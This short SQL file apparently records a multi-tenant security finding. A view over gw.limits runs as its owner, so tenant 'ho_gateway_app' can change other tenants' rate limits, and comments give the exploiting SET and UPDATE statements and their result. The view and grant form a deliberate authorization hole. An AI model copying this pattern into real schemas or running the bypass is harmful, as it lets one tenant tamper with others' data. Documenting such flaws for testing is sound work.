-- Tenant A changes the limits of other tenants through a simple view that runs as its owner.
-- about: limit_settings
-- as: ho_gateway_app
-- exploit: SET gw.organization_id = '1';
-- exploit: UPDATE gw.limit_settings SET per_minute = 1;
-- shows: UPDATE 2
CREATE VIEW gw.limit_settings AS SELECT organization_id, per_minute FROM gw.limits;
GRANT UPDATE ON gw.limit_settings TO ho_gateway_app;
